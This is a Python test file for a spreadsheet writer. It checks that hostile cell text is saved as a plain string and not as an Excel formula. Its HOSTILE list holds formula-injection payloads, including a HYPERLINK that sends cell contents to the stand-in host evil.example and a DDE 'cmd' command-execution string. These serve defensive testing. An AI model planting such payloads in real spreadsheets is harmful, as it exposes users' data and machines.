"""The one Excel writer (core.workbook): hostile text round-trips as text, never a formula."""

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from core import workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
    "=1+2",
    "+84 905 123 456",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]


def _read(data: bytes, sheet=None):
    wb = load_workbook(io.BytesIO(data))
    return wb[sheet] if sheet else wb[wb.sheetnames[0]]


@pytest.mark.parametrize("value", HOSTILE)
def test_put_writes_hostile_text_as_a_string(value):
    wb = Workbook()
    ws = wb.active
    workbook.put(ws["A1"], value)
    workbook.append(ws, ["x", value, 3])
    back = _read(workbook.save(wb))
    for ref in ("A1", "B2"):
        assert back[ref].value == value
        assert back[ref].data_type == "s"
        assert back[ref].quotePrefix
    assert back["C2"].value == 3 and back["C2"].data_type == "n"


def test_raw_xml_has_no_formula():
    wb = Workbook()
    workbook.put(wb.active["A1"], "=1+2")
    import zipfile

    data = workbook.save(wb)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet


@pytest.mark.parametrize("value", HOSTILE)
def test_streaming_rows_write_hostile_text_as_a_string(value):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("S")
    ws.append([workbook.cell(ws, value)])
    ws.append([value])  # a bare value appended before the stream is installed: openpyxl's path
    stream = workbook.StreamingRows(ws)
    ws.append(stream.header(["Tên", "Số"]))
    for _ in range(3):  # cells are reused between rows
        ws.append([stream.value(0, "text", value), stream.value(1, "int", 1234)])
    ws.append([value, "plain"])  # bare values after the stream is installed
    buf = io.BytesIO()
    wb.save(buf)
    back = _read(buf.getvalue(), "S")
    assert back["A1"].value == value and back["A1"].data_type == "s"
    for row in (4, 5, 6, 7):
        assert back[f"A{row}"].value == value and back[f"A{row}"].data_type == "s" and back[f"A{row}"].quotePrefix
    assert back["B4"].value == 1234 and back["B4"].number_format == workbook.FMT_INT
    assert back["B7"].value == "plain"


def test_illegal_characters_and_overlong_text_never_break_the_file():
    wb = Workbook()
    workbook.put(wb.active["A1"], "Tên\x00có\x0bký tự\x1f lạ")
    workbook.put(wb.active["A2"], "x" * 40000)
    back = _read(workbook.save(wb))
    assert back["A1"].value == "Têncóký tự lạ"
    assert len(back["A2"].value) == workbook.MAX_CELL_CHARS


def test_numbers_and_dates_keep_their_type_and_vietnamese_format():
    wb = Workbook()
    ws = wb.active
    workbook.append(ws, [Decimal("1234.5"), 7, datetime.date(2025, 7, 1), True, None, ""],
                    formats={0: workbook.FMT_DEC, 1: workbook.FMT_INT})
    back = _read(workbook.save(wb))
    assert back["A1"].value == 1234.5 and back["A1"].number_format == "[$-42A]#,##0.0#"
    assert back["B1"].value == 7 and back["B1"].number_format == "[$-42A]#,##0"
    assert back["C1"].value == datetime.datetime(2025, 7, 1) and back["C1"].number_format == "[$-42A]dd/mm/yyyy"
    assert back["D1"].value is True and back["E1"].value is None


def test_formulas_only_on_purpose():
    ws = Workbook().active
    workbook.put_formula(ws["A3"], "=SUM(A1:A2)", workbook.FMT_INT)
    assert ws["A3"].data_type == "f"
    for bad in ('=HYPERLINK("http://x","y")', "=SUM(A1:A2)+WEBSERVICE(\"x\")", "1+2", "=cmd|' /C calc'!A0"):
        with pytest.raises(ValueError):
            workbook.put_formula(ws["A4"], bad)


def test_table_number_columns_write_text_as_text():
    """A "number" column given text (a hostile value) writes it as a string, not a formula."""
    wb = Workbook()
    ws = wb.active
    start = workbook.header_block(ws, columns=3, header_lines=["=1+2"], title="=TITLE()", subtitle="+x")
    end = workbook.table(ws, start, ["a", "b", "c"], [10, 10, 10], [["=1+2", "=3+4", (Decimal("17"), "≥")]],
                         ["text", "num", "num"])
    back = _read(workbook.save(wb))
    assert back["A1"].value == "=1+2" and back["A1"].data_type == "s"  # no parent line: the agency first
    assert back["A5"].value == "=TITLE()" and back["A5"].data_type == "s"
    assert back[f"A{end}"].value == "=1+2" and back[f"B{end}"].value == "=3+4"
    assert back[f"B{end}"].data_type == "s"
    assert back[f"C{end}"].value == 17 and back[f"C{end}"].number_format == '[$-42A]"≥ "#,##0'
    assert back["C1"].value == workbook.NATIONAL_TITLE
    assert back.print_title_rows == f"${start}:${start}"
